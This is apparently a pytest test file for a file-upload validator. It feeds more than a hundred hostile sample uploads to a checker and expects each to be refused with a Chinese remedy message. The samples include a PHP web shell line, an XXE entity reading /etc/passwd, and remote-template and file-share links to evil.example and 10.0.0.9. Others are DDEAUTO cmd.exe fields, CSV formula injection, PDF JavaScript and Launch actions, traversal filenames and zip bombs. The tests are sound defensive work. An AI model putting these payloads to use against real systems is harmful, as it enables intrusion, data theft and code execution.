"""T16: what is meant to do harm, or might, is refused with a sentence that says what to do."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from banjie.base.errors import InvalidInput
from banjie.files.checks import examine
from banjie.files.tests import factories as make

EXE = b"MZ\x90\x00" + bytes(200)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
)
UTF16 = ENTITIES.replace("<?xml version", "<?xml encoding='UTF-16' version").encode("utf-16")
UTF7 = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-'
JS = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
RELS = "word/_rels/document.xml.rels"


def _docx(part: str, content: str | bytes = b"x") -> bytes:
    return make.office("docx", parts={part: content})


def _linked(kind: str, target: str) -> bytes:
    return _docx(RELS, make.relations((kind, target)))


def _xls(*records: tuple[int, bytes]) -> bytes:
    return make.compound(("Workbook", make.workbook(*records)))


HOSTILE = {
    # the wrong type behind a right extension
    "program as jpg": ("照片.jpg", EXE, "程序"),
    "program as pdf": ("通知.pdf", EXE, "程序"),
    "elf as docx": ("通知.docx", b"\x7fELF" + bytes(90), "程序"),
    "shortcut as txt": ("说明.txt", b"L\0\0\0\x01\x14\x02\0" + bytes(90), "快捷方式"),
    "html as jpg": ("照片.jpg", HTML, "内容却不是"),
    "html as txt": ("说明.txt", HTML, "网页代码"),
    "svg as png": ("图.png", SVG, "内容却不是"),
    "svg as txt": ("图.txt", SVG, "网页代码"),
    "php as txt": ("说明.txt", b"<?php system($_GET[0]); ?>", "网页代码"),
    "pdf as docx": ("请示.docx", make.pdf(), "内容却不是"),
    "docx as xlsx": ("台账.xlsx", make.office("docx"), "内容却不是"),
    "zip as docx": ("请示.docx", make.packed({"a.txt": "x"}), "内容却不是"),
    "doc as docx": ("请示.docx", make.compound(("WordDocument", b"\xec\xa5")), "内容却不是"),
    "xls as doc": ("请示.doc", _xls(), "内容却不是"),
    # types that are not taken in
    "zip": ("材料.zip", make.packed({"a.txt": "x"}), "不收"),
    "rar": ("材料.rar", b"Rar!\x1a\x07\x00" + bytes(90), "解压"),
    "rar as jpg": ("材料.jpg", b"Rar!\x1a\x07\x00" + bytes(90), "解压"),
    "heic": ("IMG_0001.HEIC", make.box(b"ftyp", b"heic\0\0\0\0mif1heic") + bytes(90), "改存为JPG"),
    "heic as jpg": ("IMG_0001.jpg", make.box(b"ftyp", b"heic\0\0\0\0mif1heic") + bytes(9), "改存为JPG"),
    "tiff": ("扫描.tif", b"II*\0" + bytes(90), "PDF 或 JPG"),
    "video": ("现场.mp4", make.box(b"ftyp", b"isom\0\0\0\0mp42") + bytes(90), "暂不收视频"),
    "wechat silk": ("语音.amr", b"\x02#!SILK_V3" + bytes(90), "录音机"),
    "svg": ("图.svg", SVG, "不收"),
    "html": ("页.html", HTML, "不收"),
    "no extension": ("说明", b"hello", "没有扩展名"),
    "empty": ("空.txt", b"", "0 字节"),
    # names
    "double extension": ("照片.exe.jpg", make.image("JPEG"), r"\.exe"),
    "double extension, program last": ("照片.jpg.exe", make.image("JPEG"), r"\.exe"),
    "server page inside": ("shell.php.png", make.image("PNG"), r"\.php"),
    "NUL in name": ("shell.php\0.jpg", make.image("JPEG"), "控制字符"),
    "right to left override": ("照片\u202egpj.exe", make.image("JPEG"), "控制字符"),
    "isolate in name": ("照片\u2066.jpg", make.image("JPEG"), "控制字符"),
    "path to nowhere": ("../../etc/passwd", b"root:x:0:0", "没有扩展名"),
    "macro extension": ("表.xlsm", make.office("xlsx"), r"\.xlsm"),
    # images
    "flood of pixels": ("图.png", make.png_of(50_000, 50_000), "万像素"),
    "flood past Pillow's own guard": ("图.png", make.png_of(20_000, 20_000), "万像素"),
    "long strip": ("图.png", make.png_of(40_000, 1), "万像素"),
    "PNG too large to decode at once": ("图.png", make.png_of(7_000, 7_000), "另存为JPG"),
    "truncated jpeg": ("照片.jpg", make.image("JPEG", make.picture(800, 800))[:900], "已损坏"),
    "head of a jpeg": ("照片.jpg", b"\xff\xd8\xff\xe0", "已损坏"),
    "truncated png": ("图.png", make.image("PNG", make.picture(800, 800))[:120], "已损坏"),
    "png of nothing": ("图.png", make.png_of(4_000, 4_000), "已损坏"),
    "truncated gif": ("图.gif", make.image("GIF")[:20], "已损坏"),
    # office packages
    "vba macro": ("表.docx", _docx("word/vbaProject.bin"), "宏"),
    "macro type": (
        "表.docx",
        make.office("docx", types="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "宏",
    ),
    "excel 4 macro sheet": (
        "表.xlsx",
        make.office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"}),
        "宏",
    ),
    "activex": ("表.docx", _docx("word/activeX/activeX1.xml", "<a/>"), "可运行"),
    "embedded program": ("表.docx", _docx("word/embeddings/oleObject1.bin"), "可运行"),
    "embedded macro sheet": ("表.docx", _docx("word/embeddings/a.xlsm"), "可运行"),
    "exe in package": ("表.docx", _docx("word/media/a.exe", EXE), "可运行"),
    "remote template": ("表.docx", _linked("attachedTemplate", "https://evil.example/t.dotm"), "外部的链接"),
    "remote picture": ("表.docx", _linked("image", "http://evil.example/1.png"), "外部的链接"),
    "share of another host": ("表.docx", _linked("image", r"\\10.0.0.9\s\1.png"), "外部的链接"),
    "share as file link": ("表.docx", _linked("hyperlink", "file://10.0.0.9/s/1.exe"), "外部的链接"),
    "share with many slashes": ("表.docx", _linked("hyperlink", "file://///10.0.0.9/s/1.exe"), "外部的链接"),
    "share spelt with percent signs": (
        "表.docx",
        _linked("hyperlink", "file:///%5C%5C10.0.0.9/s"),
        "外部的链接",
    ),
    "script link": ("表.docx", _linked("hyperlink", "javascript:alert(1)"), "外部的链接"),
    "handler link": ("表.docx", _linked("hyperlink", "ms-msdt:/id PCWDiagnostic"), "外部的链接"),
    "ole link": ("表.docx", _linked("oleObject", "file:///C:\\a.exe"), "外部的链接"),
    "broken relations": ("表.docx", _docx(RELS, "<Relationships><"), "损坏"),
    "dde field": ("表.docx", make.office("docx", "DDEAUTO c:\\windows\\system32\\cmd.exe"), "DDE"),
    "dde link": (
        "表.xlsx",
        make.office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
        "DDE",
    ),
    "entities": ("表.docx", _docx("word/document.xml", ENTITIES), "内部结构"),
    "entities in utf-16": ("表.docx", _docx("word/document.xml", UTF16), "内部结构"),
    "entities in utf-7": ("表.docx", _docx("word/document.xml", UTF7), "内部结构"),
    "bomb by ratio": ("表.docx", make.bomb_in("docx"), "过大"),
    "bomb by size": ("表.docx", make.bomb_in("docx", 110), "过大"),
    "too many parts": (
        "表.xlsx",
        make.office("xlsx", parts={f"xl/{n}.xml": "" for n in range(4100)}),
        "过大",
    ),
    "symlink": ("表.docx", make.with_link_in_zip(), "内部结构"),
    "path in package": ("表.docx", _docx("../../evil.xml", "<a/>"), "内部结构"),
    "absolute path": ("表.docx", _docx("/etc/evil.xml", "<a/>"), "内部结构"),
    "overlapping parts": ("表.xlsx", make.overlapping_zip(), "内部结构|损坏"),
    "password": ("表.docx", make.flagged_as_encrypted(), "密码"),
    "content behind the package": ("表.docx", make.office("docx") + HTML, "内部结构"),
    "truncated package": ("表.docx", make.office("docx")[:-40], "损坏"),
    "macro in embedded sheet": (
        "表.docx",
        _docx("word/embeddings/a.xlsx", make.office("xlsx", parts={"xl/vbaProject.bin": "x"})),
        "宏",
    ),
    "eicar in package": ("表.docx", _docx("word/media/a.txt", make.EICAR), "病毒"),
    "program in ofd": ("公文.ofd", make.packed({"OFD.xml": "<a/>", "Doc_0/a.exe": EXE}), "可运行|夹带"),
    "attachment in ofd": ("公文.ofd", make.packed({"OFD.xml": "<a/>", "Doc_0/a.docx": "x"}), "夹带"),
    # old office files
    "vba in doc": ("表.doc", make.compound(("WordDocument", b"\xec\xa5"), ("VBA", b"")), "宏"),
    "macros in doc": ("表.doc", make.compound(("WordDocument", b"\xec\xa5"), ("Macros", b"")), "宏"),
    "program in doc": ("表.doc", make.compound(("WordDocument", b""), ("\x01Ole10Native", b"")), "程序"),
    "password on doc": ("表.doc", make.compound(("WordDocument", bytes(10) + b"\0\x01")), "密码"),
    "encrypted docx": ("表.doc", make.compound(("EncryptedPackage", b"")), "密码"),
    "password on xls": ("表.xls", _xls((0x809, bytes(16)), (0x2F, bytes(6))), "密码"),
    "macro sheet in xls": (
        "表.xls",
        _xls((0x809, bytes(16)), (0x85, struct.pack("<LBBB", 9, 0, 1, 0))),
        "宏",
    ),
    "dde in doc": (
        "表.doc",
        make.compound(("WordDocument", bytes(99) + "DDEAUTO".encode("utf-16-le"))),
        "宏",
    ),
    "truncated doc": ("表.doc", make.compound(("WordDocument", b""))[:700], "损坏"),
    "workbook in the mini stream": ("表.xls", make.compound_with_mini_streams(), "损坏"),
    "circle in doc": ("表.doc", make.circling_compound(), "损坏"),
    # pdf
    "pdf with script": ("通知.pdf", make.pdf(JS), "脚本"),
    "pdf with spelt script": ("通知.pdf", make.pdf(JS.replace(b"JavaScript", b"J#61vaScr#69pt")), "脚本"),
    "pdf with launch": ("通知.pdf", make.pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "动作"),
    "pdf with file inside": ("通知.pdf", make.pdf(b"/Names<</EmbeddedFiles 9 0 R>>"), "夹带"),
    "pdf with file, type not told": ("通知.pdf", make.pdf(b"/A<</EF<</F 9 0 R>>>>"), "夹带"),
    "pdf with form program": ("通知.pdf", make.pdf(b"/AcroForm<</XFA [(a) 9 0 R]>>"), "表单"),
    "pdf sending a form": ("通知.pdf", make.pdf(b"/A<</S/SubmitForm/F(http://evil.example)>>"), "动作"),
    "pdf with script in object stream": ("通知.pdf", make.object_stream(b"<<" + JS + b">>"), "脚本"),
    "pdf with stream that hides": (
        "通知.pdf",
        make.object_stream(b"", b"LZWDecode", packed_as=b"\x80\x0b\x60\x50"),
        "无法检查",
    ),
    "pdf twice packed": (
        "通知.pdf",
        make.object_stream(b"", packed_as=zlib.compress(zlib.compress(b"7 0 x"))),
        "无法检查",
    ),
    "pdf with password": (
        "通知.pdf",
        make.pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 8 0 R"),
        "限制",
    ),
    "pdf cut off": ("通知.pdf", make.pdf()[:-30], "不完整"),
    "pdf and html": ("通知.pdf", make.pdf(head=HTML), "结构不正常"),
    "pdf and html behind": ("通知.pdf", make.pdf(tail=HTML), "结构不正常"),
    "pdf and zip": ("通知.pdf", make.pdf(tail=make.packed({"a": "x"}) + b"%%EOF"), "结构不正常"),
    # text
    "eicar": ("说明.txt", make.EICAR, "病毒"),
    "binary as txt": ("说明.txt", b"\x00\x01\x02\xff\xfe" * 20, "不是文字"),
    "no encoding at all": ("说明.txt", b"\xff\xff\xff\x80\x80", "不是文字|内容却不是"),
    "calling csv": ("表.csv", "姓名,备注\n李,=cmd|'/c calc'!A1\n".encode(), "公式"),
    "fetching csv": ("表.csv", b'a,"=WEBSERVICE(""http://evil.example"")"\n', "公式"),
    "script in csv": ("表.csv", b"a,<script>alert(1)</script>\n", "网页代码"),
    # sound
    "mp3 of nothing": ("录音.mp3", b"ID3\x04\0\0\0\0\0\x04xxxx" + HTML, "录音不完整"),
    "amr of nothing": ("录音.amr", b"#!AMR\n" + HTML, "录音不完整"),
    "wav of nothing": ("录音.wav", b"RIFF\x10\0\0\0WAVE" + HTML, "录音不完整"),
    "m4a of nothing": ("录音.m4a", make.box(b"ftyp", b"M4A \0\0\0\0") + HTML, "录音不完整"),
    "amr of silence without end": ("录音.amr", b"#!AMR\n" + b"\x7c" * 300_000, "录音不完整"),
    "m4a of boxes without end": ("录音.m4a", make.m4a() + make.box(b"free", b"") * 6000, "录音不完整"),
    "wav of chunks without end": ("录音.wav", b"RIFF\0\0\0\0WAVE" + b"LIST\0\0\0\0" * 2000, "录音不完整"),
    "mp3 of tags without end": ("录音.mp3", b"ID3\4\0\0\0\0\0\0" * 2000, "录音不完整"),
    "m4a with video": ("录音.m4a", make.m4a(handler=b"vide"), "暂不收视频"),
    # state secrets
    "marked name": ("机密★10年 关于某事的通知.pdf", make.pdf(), "密级标志"),
    "marked text": ("通知.txt", "秘密★5年\n关于某事的通知".encode(), "密级标志"),
    "marked text in gb18030": ("通知.txt", "绝密★\n关于某事的通知".encode("gb18030"), "密级标志"),
    "marked docx": ("通知.docx", make.office("docx", "机密</w:t><w:t>★</w:t><w:t>20年"), "密级标志"),
    "marked xlsx": (
        "表.xlsx",
        make.office("xlsx", parts={"xl/sharedStrings.xml": "<sst><si><t>秘密</t></si></sst>"}),
        "密级",
    ),
    "marked doc": (
        "通知.doc",
        make.compound(("WordDocument", bytes(99) + "机密★10年".encode("utf-16-le"))),
        "密级",
    ),
}


@pytest.mark.parametrize("label", HOSTILE)
def test_a_hostile_upload_is_refused_with_a_remedy(label: str, tmp_path: Path) -> None:
    name, content, words = HOSTILE[label]
    received = tmp_path / "received"
    received.write_bytes(content)
    with pytest.raises(InvalidInput, match=words) as refused:
        examine(received, name, max_pixels=make.QUOTAS.max_pixels, scratch=tmp_path)
    assert refused.value.fields["file"].endswith("。")


def test_there_are_more_than_thirty_kinds_of_hostile_uploads() -> None:
    assert len(HOSTILE) >= 100


def test_a_directory_that_lies_about_sizes_is_held_to_what_comes_out(tmp_path: Path) -> None:
    out = io.BytesIO(make.bomb_in("docx", 20))
    content = bytearray(out.getvalue())
    with zipfile.ZipFile(out) as package:
        true_size = package.getinfo("word/media/big.xml").file_size
    at = content.rfind(struct.pack("<L", true_size))
    struct.pack_into("<L", content, at, 100)
    received = tmp_path / "received"
    received.write_bytes(content)
    with pytest.raises(InvalidInput):
        examine(received, "表.docx", max_pixels=make.QUOTAS.max_pixels, scratch=tmp_path)
